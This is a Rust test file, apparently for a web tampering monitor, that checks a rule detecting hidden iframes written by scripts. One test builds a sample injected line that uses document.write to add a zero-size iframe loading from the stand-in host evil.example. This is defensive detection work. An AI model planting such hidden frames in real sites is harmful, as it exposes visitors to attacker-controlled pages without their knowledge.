//! Rule `script-writes-hidden-frame`: frames that only a script shows.

use crate::harness::{alarms, check, compared, names, scan_alone, scanned, worst};
use hinomi::model::{Confidence::*, Severity::*};
use hinomi::monitor::Form;

const RULE: &str = "script-writes-hidden-frame";

#[test]
fn fixtures() {
    check(RULE);
}

#[test]
fn each_way_of_writing_alarms_against_a_baseline() {
    for name in ["tampered-write", "tampered-element", "tampered-around"] {
        let found = compared(RULE, name);
        assert!(found.iter().any(|f| f.rule == RULE && alarms(f)), "{name}: {found:#?}");
    }
}

#[test]
fn a_first_snapshot_is_judged_alone() {
    for name in ["tampered-write", "tampered-element", "tampered-around"] {
        let found = scanned(RULE, name);
        assert!(worst(&found, RULE) >= Some((Medium, Tentative)), "{name}: {found:#?}");
    }
    for name in names(RULE, "harmless").into_iter().chain(["baseline".to_owned()]) {
        assert!(worst(&scanned(RULE, &name), RULE) <= Some((Low, Certain)), "{name}");
    }
}

#[test]
fn much_that_is_plain_before_it_hides_it_not() {
    let plain = |count: usize| (0..count).map(|n| format!("fetch('/api/{n}');\n")).collect::<String>();
    let frame = "document.write('<iframe src=//evil.example/x width=0 height=0></iframe>')";
    for count in [100, 400, 2_000] {
        let page =
            format!("<!doctype html><title>例示市</title><h1>例示市</h1><script>{}{frame}</script>", plain(count));
        let found = scan_alone(&page, Form::Page).0;
        assert!(found.iter().any(|finding| finding.rule == RULE && alarms(finding)), "{count}");
    }
}
